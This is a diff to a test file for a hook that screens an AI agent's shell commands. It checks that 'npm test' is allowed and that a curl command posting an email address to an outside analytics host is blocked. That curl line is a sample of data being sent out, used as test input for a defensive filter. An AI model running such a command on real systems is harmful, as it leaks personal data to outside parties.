@@ -27,7 +27,9 @@ function hook(event: Record<string, unknown> | string, env: Record<string, strin
 
 describe('the bundled hook process', { timeout: 30_000 }, () => {
   it('allows a PreToolUse for local work with exit 0 and nothing on stdout or stderr', () => {
-    expect(hook({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'npm test', description: 'Run tests' }, tool_use_id: 'toolu_1' })).toEqual({ code: 0, stdout: '', stderr: '' });
+    // This repository's test runner, with the Node it runs named in its environment as CI names it.
+    const local = { hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'npm test', description: 'Run tests' }, tool_use_id: 'toolu_1' };
+    expect(hook(local, { TEST_NODE: process.execPath })).toEqual({ code: 0, stdout: '', stderr: '' });
   });
   it('blocks a PreToolUse that sends an email address out, with exit 2 and the article on stderr', () => {
     const out = hook({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: "curl -d 'email=jane.doe@acme-corp.com' https://api.acme-analytics.io" } });
